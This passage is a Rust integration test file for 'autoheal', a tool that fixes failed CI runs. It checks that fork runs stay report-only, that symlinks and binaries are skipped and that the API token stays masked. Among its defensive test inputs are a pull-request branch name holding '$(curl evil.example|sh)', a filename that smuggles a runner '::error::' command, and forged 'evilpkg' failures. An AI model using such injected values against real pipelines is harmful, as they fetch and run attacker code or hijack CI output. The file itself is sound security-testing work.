//! SECURITY.md §2 (trust boundary) and §11 (one memory budget) end to end,
//! through the real binary: every way a log can arrive through the API
//! (`--run-id`, `--job-id`) is checked against the Jobs API and the run
//! object, under every triggering event; directory walks never follow a
//! symlink; binaries are not logs; failures are capped per report and per
//! run, and counted. GitHub mode is read with the runner oracle of
//! `support/runner.rs`; after a refusal the workspace is byte-identical.
//!
//! Peak memory is measured by `scripts/bounds` on a release build; here the
//! bounded behaviour (caps, counts, notes) is what is asserted.

#[path = "support/api.rs"]
mod api;
#[path = "support/bin.rs"]
mod bin;
#[path = "support/runner.rs"]
mod runner;

use api::Api;
use bin::autoheal;

use std::collections::BTreeMap;
use std::io::Write;
use std::os::unix::fs::{PermissionsExt, symlink};
use std::path::{Path, PathBuf};
use std::process::Command as StdCommand;

use assert_cmd::Command;
use runner::{runner_commands, runner_outputs};

// ---------------------------------------------------------------- harness

const TOKEN: &str = "ghs_TRUSTtoken0123456789abcdefghijklmnopq";

struct Out {
    code: i32,
    stdout: String,
    stderr: String,
}

fn run(cmd: &mut Command) -> Out {
    let o = cmd.output().expect("binary runs");
    Out {
        code: o.status.code().unwrap_or(-1),
        stdout: String::from_utf8_lossy(&o.stdout).into_owned(),
        stderr: String::from_utf8_lossy(&o.stderr).into_owned(),
    }
}

/// A GitHub job log: each line behind a runner timestamp.
fn gh(lines: &[&str]) -> String {
    lines
        .iter()
        .map(|l| format!("2024-05-01T12:00:00.0000000Z {l}\n"))
        .collect()
}

/// A pytest collection failure for `import <module>`: `fix` adds the
/// package to the workflow's `pip install` line.
fn module_log(module: &str) -> String {
    let import = format!("    import {module}");
    let err = format!("E   ModuleNotFoundError: No module named '{module}'");
    gh(&[
        "##[group]Run pytest -q",
        "pytest -q",
        "shell: /usr/bin/bash -e {0}",
        "##[endgroup]",
        "==================================== ERRORS ====================================",
        "____________________ ERROR collecting tests/test_app.py ____________________",
        "ImportError while importing test module '/home/runner/work/app/app/tests/test_app.py'.",
        "tests/test_app.py:1: in <module>",
        &import,
        &err,
        "=========================== short test summary info ============================",
        "ERROR tests/test_app.py",
        "!!!!!!!!!!!!!!!!!!!! Interrupted: 1 error during collection !!!!!!!!!!!!!!!!!!!!",
        "##[error]Process completed with exit code 2.",
    ])
}

const WORKFLOW: &str = "name: CI\non: [push, pull_request]\n\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - name: Install\n        run: |\n          pip install requests pytest   # test tools\n      - run: pytest -q\n";

fn git(dir: &Path, args: &[&str]) {
    let ok = StdCommand::new("git")
        .args([
            "-c",
            "user.name=t",
            "-c",
            "user.email=t@t",
            "-c",
            "core.hooksPath=/dev/null",
            "-c",
            "commit.gpgsign=false",
        ])
        .args(args)
        .current_dir(dir)
        .output()
        .expect("git runs")
        .status
        .success();
    assert!(ok, "git {args:?}");
}

/// A git checkout at `<tmp>/ws` whose workflow a `yaml` import failure fixes;
/// `<tmp>` is outside it.
struct Ws {
    tmp: tempfile::TempDir,
}

impl Ws {
    fn new() -> Ws {
        let tmp = tempfile::tempdir().expect("tempdir");
        let ws = Ws { tmp };
        for (name, data) in [
            (".github/workflows/ci.yml", WORKFLOW),
            ("requirements.txt", "requests==2.32.3\n"),
            (
                "tests/test_app.py",
                "import yaml\n\n\ndef test_x():\n    pass\n",
            ),
        ] {
            let p = ws.path().join(name);
            std::fs::create_dir_all(p.parent().expect("parent")).expect("mkdir");
            std::fs::write(p, data).expect("write");
        }
        git(&ws.path(), &["init", "-q"]);
        git(&ws.path(), &["add", "-A"]);
        git(&ws.path(), &["commit", "-qm", "init"]);
        ws
    }

    fn path(&self) -> PathBuf {
        self.tmp.path().join("ws")
    }

    fn outside(&self) -> PathBuf {
        self.tmp.path().to_path_buf()
    }

    fn snapshot(&self) -> BTreeMap<PathBuf, (u32, Vec<u8>)> {
        tree(&self.path())
    }
}

/// Every entry under `root` (`.git` included): mode and bytes.
fn tree(root: &Path) -> BTreeMap<PathBuf, (u32, Vec<u8>)> {
    let mut out = BTreeMap::new();
    let mut stack = vec![root.to_path_buf()];
    while let Some(dir) = stack.pop() {
        for entry in std::fs::read_dir(&dir).expect("readable") {
            let p = entry.expect("entry").path();
            let meta = std::fs::symlink_metadata(&p).expect("meta");
            let rel = p.strip_prefix(root).expect("beneath").to_path_buf();
            if rel == Path::new(".git/index") {
                continue;
            }
            let mode = meta.permissions().mode();
            if meta.is_dir() {
                out.insert(rel, (mode, Vec::new()));
                stack.push(p);
            } else if meta.file_type().is_symlink() {
                let target = std::fs::read_link(&p).expect("link");
                out.insert(rel, (mode, target.as_os_str().as_encoded_bytes().to_vec()));
            } else {
                out.insert(rel, (mode, std::fs::read(&p).expect("read")));
            }
        }
    }
    out
}

/// The GitHub sinks of one run; `GITHUB_ENV`/`GITHUB_PATH` hold sentinels.
struct Gh {
    dir: tempfile::TempDir,
}

const SENTINEL: &str = "SENTINEL=untouched\n";

impl Gh {
    fn new() -> Gh {
        let dir = tempfile::tempdir().expect("tempdir");
        for (f, content) in [
            ("output", ""),
            ("summary", ""),
            ("env", SENTINEL),
            ("path", SENTINEL),
        ] {
            std::fs::write(dir.path().join(f), content).expect("sink");
        }
        std::fs::create_dir(dir.path().join("temp")).expect("temp");
        Gh { dir }
    }

    fn apply(&self, cmd: &mut Command) {
        let p = |n: &str| self.dir.path().join(n);
        cmd.env("GITHUB_ACTIONS", "true")
            .env("GITHUB_OUTPUT", p("output"))
            .env("GITHUB_STEP_SUMMARY", p("summary"))
            .env("GITHUB_ENV", p("env"))
            .env("GITHUB_PATH", p("path"))
            .env("RUNNER_TEMP", p("temp"));
    }

    fn outputs(&self) -> BTreeMap<String, String> {
        let text = std::fs::read_to_string(self.dir.path().join("output")).expect("output");
        runner_outputs(&text)
            .expect("GITHUB_OUTPUT parses like the runner")
            .into_iter()
            .collect()
    }

    fn summary(&self) -> String {
        std::fs::read_to_string(self.dir.path().join("summary")).expect("summary")
    }

    fn assert_sentinels(&self) {
        for f in ["env", "path"] {
            let got = std::fs::read_to_string(self.dir.path().join(f)).expect("sentinel");
            assert_eq!(got, SENTINEL, "GITHUB_{} was written", f.to_uppercase());
        }
    }
}

/// The runner sees only our commands: the mask of our token first, then
/// annotations and closed stop-commands blocks; never the token elsewhere.
fn assert_only_our_commands(stream: &str) {
    let cmds = runner_commands(stream);
    for c in &cmds {
        assert!(!c.legacy, "legacy command reached the runner: {c:?}");
        assert!(
            matches!(
                c.name.as_str(),
                "add-mask" | "error" | "warning" | "notice" | "stop-commands"
            ),
            "foreign command {c:?}"
        );
        if c.name == "add-mask" {
            assert_eq!(c.data, TOKEN, "foreign mask {c:?}");
        }
        if c.name == "stop-commands" {
            assert!(
                stream.contains(&format!("\n::{}::\n", c.data)),
                "block not closed"
            );
        }
    }
    // The mask may be printed twice (before the download, and by the
    // writer); the token appears nowhere but in it.
    let masks = cmds.iter().filter(|c| c.name == "add-mask").count();
    assert_eq!(
        stream.matches(TOKEN).count(),
        masks,
        "the token leaked: {stream}"
    );
}

// ---------------------------------------------------------------- mock API

const REPO: &str = "/repos/acme/app/actions";

fn run_object(id: u64, event: &str, head: Option<&str>) -> Vec<u8> {
    serde_json::json!({
        "id": id,
        "event": event,
        "status": "completed",
        "conclusion": "failure",
        "head_branch": "main",
        "head_repository": head.map(|h| serde_json::json!({"full_name": h})),
        "repository": {"full_name": "acme/app"},
    })
    .to_string()
    .into_bytes()
}

fn job_object(id: u64, run_id: u64, conclusion: &str) -> Vec<u8> {
    serde_json::json!({
        "id": id,
        "run_id": run_id,
        "name": "test",
        "status": "completed",
        "conclusion": conclusion,
        "steps": [{"name": "Run pytest -q", "number": 2, "status": "completed",
                   "conclusion": conclusion}],
    })
    .to_string()
    .into_bytes()
}

/// The routes of job 7 of run 70: its object (with `conclusion`), its log
/// (a real failure) and the run object (head `head`).
fn job_routes(conclusion: &str, head: Option<&str>) -> Vec<(String, Vec<u8>)> {
    vec![
        (format!("{REPO}/jobs/7"), job_object(7, 70, conclusion)),
        (
            format!("{REPO}/jobs/7/logs"),
            module_log("yaml").into_bytes(),
        ),
        (format!("{REPO}/runs/70"), run_object(70, "push", head)),
    ]
}

/// A run-log zip of run 70: job `test`, its failing step.
fn run_log_zip() -> Vec<u8> {
    let log = module_log("yaml");
    zip_of(&[
        ("1_test.txt", log.as_bytes()),
        ("test/2_Run pytest -q.txt", log.as_bytes()),
    ])
}

fn zip_of(entries: &[(&str, &[u8])]) -> Vec<u8> {
    let mut w = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    let opts = zip::write::SimpleFileOptions::default()
        .compression_method(zip::CompressionMethod::Deflated);
    for (name, data) in entries {
        w.start_file(*name, opts).expect("entry");
        w.write_all(data).expect("write");
    }
    w.finish().expect("zip").into_inner()
}

fn run_routes(head: Option<&str>, event: &str) -> Vec<(String, Vec<u8>)> {
    let jobs = serde_json::json!({"total_count": 1, "jobs": [
        serde_json::from_slice::<serde_json::Value>(&job_object(7, 70, "failure")).expect("job")
    ]});
    vec![
        (format!("{REPO}/runs/70/logs"), run_log_zip()),
        (
            format!("{REPO}/runs/70/jobs?per_page=100&page=1"),
            jobs.to_string().into_bytes(),
        ),
        (format!("{REPO}/runs/70"), run_object(70, event, head)),
    ]
}

/// `fix` through the API in GitHub mode, with `extra` environment.
fn fix_api(ws: &Ws, api: &Api, gh: &Gh, args: &[&str], env: &[(&str, &Path)]) -> Out {
    let mut cmd = autoheal();
    gh.apply(&mut cmd);
    cmd.env("GITHUB_TOKEN", TOKEN)
        .env("GITHUB_API_URL", api.url())
        .env("GITHUB_REPOSITORY", "acme/app");
    for (k, v) in env {
        cmd.env(k, v);
    }
    run(cmd
        .arg("fix")
        .args(args)
        .args(["--repo", "acme/app", "-C"])
        .arg(ws.path()))
}

/// A refusal in GitHub mode: exit 3, the reason in the report, no diff in
/// any sink, only our commands, the sentinels and the workspace untouched.
fn assert_refused(
    out: &Out,
    gh: &Gh,
    ws: &Ws,
    before: &BTreeMap<PathBuf, (u32, Vec<u8>)>,
    id: &str,
) {
    assert_eq!(
        out.code, 3,
        "stdout: {}\nstderr: {}",
        out.stdout, out.stderr
    );
    let reason = format!("refused ({id})");
    assert!(
        out.stdout.contains(&reason)
            || out.stderr.contains(&reason)
            || gh.summary().contains(&reason),
        "no {reason} in\nstdout: {}\nstderr: {}\nsummary: {}",
        out.stdout,
        out.stderr,
        gh.summary()
    );
    assert_only_our_commands(&out.stdout);
    assert_only_our_commands(&out.stderr);
    let outputs = gh.outputs();
    assert_eq!(
        outputs.get("applied").map(String::as_str),
        Some("false"),
        "{outputs:?}"
    );
    assert_eq!(
        outputs.get("diff").map(String::as_str),
        Some(""),
        "{outputs:?}"
    );
    assert!(!out.stdout.contains("+++ b/"), "a diff reached stdout");
    gh.assert_sentinels();
    assert_eq!(&ws.snapshot(), before, "the workspace changed");
}

// ================================================================ job-not-failed

#[test]
fn job_id_of_a_job_the_api_calls_successful_is_not_fixed() {
    let ws = Ws::new();
    let before = ws.snapshot();
    for conclusion in ["success", "skipped"] {
        let api = Api::start(job_routes(conclusion, Some("acme/app")));
        let gh = Gh::new();
        let out = fix_api(&ws, &api, &gh, &["--job-id", "7"], &[]);
        assert_refused(&out, &gh, &ws, &before, "job-not-failed");
        let seen = api.seen();
        assert!(seen.contains(&format!("{REPO}/jobs/7")), "{seen:?}");
    }
    // The same log from a job that failed is fixed: the refusal is the API's word.
    let api = Api::start(job_routes("failure", Some("acme/app")));
    let gh = Gh::new();
    let out = fix_api(&ws, &api, &gh, &["--job-id", "7", "--diff-only"], &[]);
    assert_eq!(out.code, 0, "{}\n{}", out.stdout, out.stderr);
    assert_eq!(
        gh.outputs().get("fixable").map(String::as_str),
        Some("true")
    );
    assert!(
        gh.outputs()["diff"].contains("PyYAML"),
        "{:?}",
        gh.outputs()
    );
    assert_eq!(ws.snapshot(), before, "--diff-only wrote");
    // Text mode, written: the diff applies, so the refusal above was not luck.
    let mut cmd = autoheal();
    let out = run(cmd
        .env("GITHUB_TOKEN", TOKEN)
        .env("GITHUB_API_URL", api.url())
        .args(["fix", "--job-id", "7", "--repo", "acme/app", "-C"])
        .arg(ws.path()));
    assert_eq!(out.code, 0, "{}", out.stderr);
    assert!(out.stdout.starts_with("diff --git"), "{}", out.stdout);
    assert_ne!(ws.snapshot(), before);
}

#[test]
fn job_id_diagnose_drops_what_a_successful_job_shows() {
    let api = Api::start(job_routes("success", Some("acme/app")));
    let out = run(autoheal()
        .env("GITHUB_TOKEN", TOKEN)
        .env("GITHUB_API_URL", api.url())
        .args([
            "diagnose", "--format", "json", "--job-id", "7", "--repo", "acme/app",
        ]));
    assert_eq!(out.code, 0, "{}", out.stderr);
    let v: serde_json::Value = serde_json::from_str(&out.stdout).expect("json");
    assert_eq!(v["category"], "unknown", "{v}");
    assert_eq!(v["failures"].as_array().map(Vec::len), Some(0));
}

#[test]
fn job_id_of_another_run_is_refused() {
    let api = Api::start(job_routes("failure", Some("acme/app")));
    let ws = Ws::new();
    let before = ws.snapshot();
    let out = run(autoheal()
        .env("GITHUB_TOKEN", TOKEN)
        .env("GITHUB_API_URL", api.url())
        .args([
            "fix", "--run-id", "71", "--job-id", "7", "--repo", "acme/app", "-C",
        ])
        .arg(ws.path()));
    assert_eq!(out.code, 2, "{}", out.stderr);
    assert_eq!(
        out.stderr.trim_end(),
        "error: job 7 belongs to run 70, not run 71"
    );
    assert_eq!(ws.snapshot(), before);
}

/// Run 70 with one artifact `test-logs` (a log of a real failure) and jobs
/// that ended in `conclusions`.
fn artifact_routes(conclusions: &[&str], head: &str) -> Vec<(String, Vec<u8>)> {
    let jobs: Vec<serde_json::Value> = conclusions
        .iter()
        .enumerate()
        .map(|(i, c)| {
            let mut j: serde_json::Value =
                serde_json::from_slice(&job_object(i as u64 + 1, 70, c)).expect("job");
            j["name"] = serde_json::json!(format!("job {i}"));
            j
        })
        .collect();
    let jobs = serde_json::json!({"total_count": jobs.len(), "jobs": jobs});
    let list = serde_json::json!({"total_count": 1, "artifacts": [
        {"id": 55, "name": "test-logs", "size_in_bytes": 900, "expired": false}
    ]});
    let log = module_log("yaml");
    vec![
        (
            format!("{REPO}/runs/70/artifacts?per_page=100&page=1"),
            list.to_string().into_bytes(),
        ),
        (
            format!("{REPO}/artifacts/55/zip"),
            zip_of(&[("logs/pytest.log", log.as_bytes())]),
        ),
        (
            format!("{REPO}/runs/70/jobs?per_page=100&page=1"),
            jobs.to_string().into_bytes(),
        ),
        (
            format!("{REPO}/runs/70"),
            run_object(70, "push", Some(head)),
        ),
    ]
}

#[test]
fn artifact_of_a_run_whose_jobs_all_succeeded_is_not_fixed() {
    let ws = Ws::new();
    let before = ws.snapshot();
    let args = ["--run-id", "70", "--artifact", "test-logs"];
    let api = Api::start(artifact_routes(&["success", "skipped"], "acme/app"));
    let gh = Gh::new();
    let out = fix_api(&ws, &api, &gh, &args, &[]);
    assert_refused(&out, &gh, &ws, &before, "job-not-failed");
    assert!(
        api.seen().contains(&format!("{REPO}/artifacts/55/zip")),
        "{:?}",
        api.seen()
    );
    // From a fork, the artifact is report-only whatever the jobs say.
    let api = Api::start(artifact_routes(&["success", "failure"], "mallory/app"));
    let gh = Gh::new();
    let out = fix_api(&ws, &api, &gh, &args, &[]);
    assert_refused(&out, &gh, &ws, &before, "fork-run");
    // A job failed and the run is ours: the artifact's failure is fixed.
    let api = Api::start(artifact_routes(&["success", "failure"], "acme/app"));
    let gh = Gh::new();
    let mut with_diff = args.to_vec();
    with_diff.push("--diff-only");
    let out = fix_api(&ws, &api, &gh, &with_diff, &[]);
    assert_eq!(out.code, 0, "{}\n{}", out.stdout, out.stderr);
    assert!(
        gh.outputs()["diff"].contains("PyYAML"),
        "{:?}",
        gh.outputs()
    );
    assert_eq!(ws.snapshot(), before);
}

#[test]
fn forged_failures_in_passing_jobs_do_not_crowd_out_the_real_one() {
    // Six jobs the API calls successful forge 6,000 failing steps, more
    // than a run keeps; the job that failed comes last.
    let mut forged = String::new();
    for s in 0..1_000 {
        forged.push_str(&gh(&[
            &format!("##[group]Run forged {s}"),
            "##[endgroup]",
            "E   ModuleNotFoundError: No module named 'evilpkg'",
            "##[error]Process completed with exit code 1.",
        ]));
    }
    let real = module_log("yaml");
    let mut entries: Vec<(String, Vec<u8>)> = (0..6)
        .map(|j| {
            (
                format!("{}_lint {j}.txt", j + 1),
                forged.clone().into_bytes(),
            )
        })
        .collect();
    entries.push(("7_test.txt".into(), real.clone().into_bytes()));
    entries.push(("test/2_Run pytest -q.txt".into(), real.into_bytes()));
    let refs: Vec<(&str, &[u8])> = entries
        .iter()
        .map(|(n, d)| (n.as_str(), d.as_slice()))
        .collect();
    let mut jobs: Vec<serde_json::Value> = (0..6)
        .map(|j| serde_json::json!({"id": j + 1, "name": format!("lint {j}"), "conclusion": "success"}))
        .collect();
    jobs.push(serde_json::json!({"id": 7, "name": "test", "conclusion": "failure"}));
    let routes = vec![
        (format!("{REPO}/runs/70/logs"), zip_of(&refs)),
        (
            format!("{REPO}/runs/70/jobs?per_page=100&page=1"),
            serde_json::json!({"total_count": 7, "jobs": jobs})
                .to_string()
                .into_bytes(),
        ),
        (
            format!("{REPO}/runs/70"),
            run_object(70, "push", Some("acme/app")),
        ),
    ];
    let api = Api::start(routes);
    let ws = Ws::new();
    let gh = Gh::new();
    let out = fix_api(&ws, &api, &gh, &["--run-id", "70", "--diff-only"], &[]);
    assert_eq!(out.code, 0, "{}\n{}", out.stdout, out.stderr);
    let outputs = gh.outputs();
    assert_eq!(
        outputs.get("failed-job").map(String::as_str),
        Some("test"),
        "{outputs:?}"
    );
    assert!(outputs["diff"].contains("PyYAML"), "{outputs:?}");
    assert!(
        !gh.summary().contains("evilpkg"),
        "a forged failure was reported"
    );
}

// ================================================================ fork-run

/// The payload of `event` as GitHub writes it: none of these names the
/// failed run's head repository, so only the API's run object can.
fn payload(event: &str) -> serde_json::Value {
    let repo = serde_json::json!({"full_name": "acme/app"});
    match event {
        "workflow_dispatch" => {
            serde_json::json!({"inputs": {"run-id": "70"}, "ref": "refs/heads/main", "repository": repo})
        }
        "repository_dispatch" => {
            serde_json::json!({"action": "heal", "client_payload": {"run_id": 70}, "repository": repo})
        }
        "issue_comment" => {
            serde_json::json!({"action": "created", "comment": {"body": "/autoheal 70"}, "issue": {"number": 3, "pull_request": {"url": "x"}}, "repository": repo})
        }
        "schedule" => serde_json::json!({"schedule": "0 * * * *", "repository": repo}),
        // A payload whose own head is ours: the API still decides.
        "workflow_run" => {
            serde_json::json!({"action": "completed", "workflow_run": {"id": 70, "head_repository": repo}, "repository": repo})
        }
        other => panic!("no payload for {other}"),
    }
}

#[test]
fn fork_runs_are_report_only_under_every_event() {
    let ws = Ws::new();
    let before = ws.snapshot();
    for event in [
        "workflow_dispatch",
        "repository_dispatch",
        "issue_comment",
        "schedule",
        "workflow_run",
    ] {
        let ev = ws.outside().join(format!("{event}.json"));
        std::fs::write(&ev, payload(event).to_string()).expect("event");
        let env = [("GITHUB_EVENT_PATH", ev.as_path())];
        for head in [Some("mallory/app"), None] {
            let api = Api::start(run_routes(head, event));
            let gh = Gh::new();
            let mut cmd_env = env.to_vec();
            let name = PathBuf::from(event);
            cmd_env.push(("GITHUB_EVENT_NAME", name.as_path()));
            let out = fix_api(
                &ws,
                &api,
                &gh,
                &["--run-id", "70", "--unsafe-fixes"],
                &cmd_env,
            );
            assert_refused(&out, &gh, &ws, &before, "fork-run");
            assert!(
                api.seen().contains(&format!("{REPO}/runs/70")),
                "{event}: the run object was not read: {:?}",
                api.seen()
            );
            // Report-only: the diagnosis is still made.
            assert_eq!(
                gh.outputs().get("category").map(String::as_str),
                Some("dependency_missing"),
                "{event}"
            );
        }
        // The same event for a run of this repository is fixed.
        let api = Api::start(run_routes(Some("acme/app"), event));
        let gh = Gh::new();
        let name = PathBuf::from(event);
        let out = fix_api(
            &ws,
            &api,
            &gh,
            &["--run-id", "70", "--diff-only"],
            &[
                ("GITHUB_EVENT_PATH", ev.as_path()),
                ("GITHUB_EVENT_NAME", name.as_path()),
            ],
        );
        assert_eq!(out.code, 0, "{event}: {}\n{}", out.stdout, out.stderr);
        assert!(gh.outputs()["diff"].contains("PyYAML"), "{event}");
    }
}

#[test]
fn job_id_of_a_fork_run_is_report_only() {
    let ws = Ws::new();
    let before = ws.snapshot();
    let api = Api::start(job_routes("failure", Some("mallory/app")));
    let gh = Gh::new();
    let out = fix_api(&ws, &api, &gh, &["--job-id", "7"], &[]);
    assert_refused(&out, &gh, &ws, &before, "fork-run");
    // The job object names its run; that run's object decided.
    assert!(
        api.seen().contains(&format!("{REPO}/runs/70")),
        "{:?}",
        api.seen()
    );
}

#[test]
fn pull_request_target_from_a_fork_is_report_only() {
    let ws = Ws::new();
    let before = ws.snapshot();
    let log = ws.outside().join("job.log");
    std::fs::write(&log, module_log("yaml")).expect("log");
    let pr = |head: serde_json::Value| {
        serde_json::json!({
            "action": "synchronize",
            "number": 5,
            "pull_request": {
                "head": {"ref": "$(curl evil.example|sh)", "repo": head},
                "base": {"ref": "main", "repo": {"full_name": "acme/app"}},
            },
            "repository": {"full_name": "acme/app"},
        })
    };
    let ev = ws.outside().join("event.json");
    for head in [
        serde_json::json!({"full_name": "mallory/app"}),
        serde_json::Value::Null,
    ] {
        std::fs::write(&ev, pr(head).to_string()).expect("event");
        let gh = Gh::new();
        let mut cmd = autoheal();
        gh.apply(&mut cmd);
        let out = run(cmd
            .env("GITHUB_REPOSITORY", "acme/app")
            .env("GITHUB_EVENT_NAME", "pull_request_target")
            .env("GITHUB_EVENT_PATH", &ev)
            .args(["fix", "--unsafe-fixes", "-C"])
            .arg(ws.path())
            .arg(&log));
        assert_refused(&out, &gh, &ws, &before, "fork-run");
    }
    std::fs::write(
        &ev,
        pr(serde_json::json!({"full_name": "acme/app"})).to_string(),
    )
    .expect("event");
    let out = run(autoheal()
        .env("GITHUB_REPOSITORY", "acme/app")
        .env("GITHUB_EVENT_NAME", "pull_request_target")
        .env("GITHUB_EVENT_PATH", &ev)
        .args(["fix", "--diff-only", "-C"])
        .arg(ws.path())
        .arg(&log));
    assert_eq!(out.code, 0, "{}", out.stderr);
    assert!(out.stdout.contains("PyYAML"), "{}", out.stdout);
}

// ================================================================ symlinks

#[test]
fn directory_walks_do_not_follow_symlinks() {
    let tmp = tempfile::tempdir().expect("tempdir");
    let dir = tmp.path().join("logs");
    let outside = tmp.path().join("outside");
    std::fs::create_dir_all(&dir).expect("mkdir");
    std::fs::create_dir_all(&outside).expect("mkdir");
    // Outside the input: a file a link names, and a directory of logs.
    let secret = "E   ModuleNotFoundError: No module named 'outsidesecret'\n";
    std::fs::write(outside.join("secret.txt"), secret).expect("write");
    std::fs::write(outside.join("deep.log"), secret).expect("write");
    symlink(outside.join("secret.txt"), dir.join("leak.log")).expect("link");
    symlink(&outside, dir.join("more")).expect("link");
    // Inside the input: a real log, and a link to it (skipped too).
    std::fs::write(dir.join("job.log"), module_log("yaml")).expect("write");
    symlink(dir.join("job.log"), dir.join("again.log")).expect("link");
    let out = run(autoheal().args(["diagnose", "--format", "json"]).arg(&dir));
    assert_eq!(out.code, 0, "{}", out.stderr);
    assert!(!out.stdout.contains("outsidesecret"), "{}", out.stdout);
    let v: serde_json::Value = serde_json::from_str(&out.stdout).expect("json");
    assert_eq!(v["category"], "dependency_missing");
    assert_eq!(v["failures"].as_array().map(Vec::len), Some(1), "{v}");
    for link in ["leak.log", "more", "again.log"] {
        let note = format!(
            "note: {}: a symlink; skipped (links in input directories are not followed)",
            dir.join(link).display()
        );
        assert!(out.stderr.contains(&note), "{note}\n{}", out.stderr);
    }
    // A directory of nothing but a link to outside: nothing is read.
    let only = tmp.path().join("only");
    std::fs::create_dir(&only).expect("mkdir");
    symlink(outside.join("secret.txt"), only.join("leak.log")).expect("link");
    let out = run(autoheal().arg("diagnose").arg(&only));
    assert_eq!(out.code, 1, "{}", out.stdout);
    assert!(!out.stdout.contains("outsidesecret"));
    assert!(
        out.stderr
            .ends_with(&format!("error: {}: input is empty\n", only.display())),
        "{}",
        out.stderr
    );
    // A link given by name is the user's choice and is read.
    let out = run(autoheal().arg("diagnose").arg(dir.join("leak.log")));
    assert_eq!(out.code, 0, "{}", out.stderr);
}

// ================================================================ not logs

/// The first bytes of things that are not logs, as their tools write them.
fn binaries() -> Vec<(&'static str, Vec<u8>)> {
    let mut tar = vec![0u8; 1024];
    tar[..12].copy_from_slice(b"logs/job.txt");
    tar[257..263].copy_from_slice(b"ustar\0");
    let with = |head: &[u8]| {
        let mut v = head.to_vec();
        v.extend((0..2000u32).map(|i| (i * 7 + 3) as u8));
        v
    };
    vec![
        (
            "autoheal.log",
            std::fs::read(env!("CARGO_BIN_EXE_autoheal")).expect("elf"),
        ),
        ("shot.png", with(b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR")),
        ("photo.log", with(b"\xff\xd8\xff\xe0\0\x10JFIF\0")),
        ("anim.txt", with(b"GIF89a\x10\0\x10\0")),
        ("logs.tar.gz", with(b"\x1f\x8b\x08\0\0\0\0\0\0\x03")),
        ("logs.tar.xz", with(b"\xfd7zXZ\0\0\x04")),
        ("logs.tar.zst", with(b"\x28\xb5\x2f\xfd\x04\x58")),
        ("logs.tar", tar),
    ]
}

#[test]
fn binaries_given_as_logs_are_errors() {
    let tmp = tempfile::tempdir().expect("tempdir");
    for (name, data) in binaries() {
        let p = tmp.path().join(name);
        std::fs::write(&p, &data).expect("write");
        let out = run(autoheal().arg("diagnose").arg(&p));
        assert_eq!(out.code, 1, "{name}: {}", out.stdout);
        assert_eq!(
            out.stderr,
            format!("error: {}: not a text log\n", p.display()),
            "{name}"
        );
        assert!(out.stdout.is_empty(), "{name}: {}", out.stdout);
        // On standard input too.
        let out = run(autoheal().arg("diagnose").write_stdin(data.clone()));
        assert_eq!(out.code, 1, "{name}");
        assert_eq!(out.stderr, "error: standard input: not a text log\n");
    }
    // A hostile name is escaped: one line, no control character.
    let p = tmp.path().join("x\n::error::owned\x1b[1A.png");
    std::fs::write(&p, b"\x89PNG\r\n\x1a\n\0\0\0\0").expect("write");
    let out = run(autoheal().arg("diagnose").arg(&p));
    assert_eq!(out.code, 1);
    assert_eq!(out.stderr.lines().count(), 1, "{}", out.stderr);
    assert!(
        out.stderr
            .contains("x\\n::error::owned\\u{1b}[1A.png: not a text log"),
        "{}",
        out.stderr
    );
    // In a directory a binary is skipped with a note; the logs are read.
    let dir = tmp.path().join("dir");
    std::fs::create_dir(&dir).expect("mkdir");
    std::fs::write(
        dir.join("core.log"),
        b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0",
    )
    .expect("w");
    std::fs::write(dir.join("job.log"), module_log("yaml")).expect("w");
    let out = run(autoheal().arg("diagnose").arg(&dir));
    assert_eq!(out.code, 0, "{}", out.stderr);
    assert!(
        out.stderr.contains(&format!(
            "note: {}: not a text log; skipped",
            dir.join("core.log").display()
        )),
        "{}",
        out.stderr
    );
    // In an artifact, likewise.
    let elf = std::fs::read(env!("CARGO_BIN_EXE_autoheal")).expect("elf");
    let log = module_log("yaml");
    let art = tmp.path().join("artifact.zip");
    std::fs::write(
        &art,
        zip_of(&[("logs/a.log", &elf[..4096]), ("logs/b.log", log.as_bytes())]),
    )
    .expect("write");
    let out = run(autoheal().args(["diagnose", "--format", "json"]).arg(&art));
    assert_eq!(out.code, 0, "{}", out.stderr);
    assert!(
        out.stderr
            .contains("note: \"logs/a.log\": not a text log; skipped"),
        "{}",
        out.stderr
    );
    let v: serde_json::Value = serde_json::from_str(&out.stdout).expect("json");
    assert_eq!(v["category"], "dependency_missing");
    // Text with a stray NUL is still a log.
    let mut log = b"garbage\0 here\n".to_vec();
    log.extend_from_slice(module_log("yaml").as_bytes());
    let out = run(autoheal().arg("diagnose").write_stdin(log));
    assert_eq!(out.code, 0, "{}", out.stderr);
}

#[test]
fn empty_input_names_the_path() {
    let tmp = tempfile::tempdir().expect("tempdir");
    let p = tmp.path().join("empty \"one\".log");
    std::fs::write(&p, b"").expect("write");
    let out = run(autoheal().arg("diagnose").arg(&p));
    assert_eq!(out.code, 1);
    assert_eq!(
        out.stderr,
        format!(
            "error: {}/empty \\\"one\\\".log: input is empty\n",
            tmp.path().display()
        )
    );
    let out = run(autoheal().arg("diagnose").write_stdin(""));
    assert_eq!(out.code, 1);
    assert_eq!(out.stderr, "error: standard input: input is empty\n");
}

#[test]
fn no_input_on_a_terminal_says_what_it_expects() {
    // `script` gives the binary a terminal on standard input; `timeout`
    // turns a wait for input into a failure instead of a hang.
    let has = |tool: &str| {
        StdCommand::new(tool)
            .arg("--version")
            .output()
            .is_ok_and(|o| o.status.success())
    };
    if !has("script") || !has("timeout") {
        eprintln!("skipped: script(1) or timeout(1) missing");
        return;
    }
    let bin = env!("CARGO_BIN_EXE_autoheal");
    for sub in ["diagnose", "fix --diff-only"] {
        let o = StdCommand::new("timeout")
            .args(["10", "script", "-qec"])
            .arg(format!("{bin} {sub}"))
            .arg("/dev/null")
            .stdin(std::process::Stdio::null())
            .env_clear()
            .env("PATH", std::env::var_os("PATH").unwrap_or_default())
            .output()
            .expect("script runs");
        let text = String::from_utf8_lossy(&o.stdout);
        assert_eq!(o.status.code(), Some(2), "{sub}: {text}");
        let lines: Vec<&str> = text.lines().filter(|l| !l.trim().is_empty()).collect();
        assert_eq!(lines.len(), 1, "{lines:?}");
        assert!(
            lines[0].starts_with("error: no input: give a log file"),
            "{text}"
        );
    }
    // Not a terminal: standard input is read as before.
    let out = run(autoheal().arg("diagnose").write_stdin(module_log("yaml")));
    assert_eq!(out.code, 0, "{}", out.stderr);
}

// ================================================================ one budget

fn junit(failing: usize, tag: &str) -> Vec<u8> {
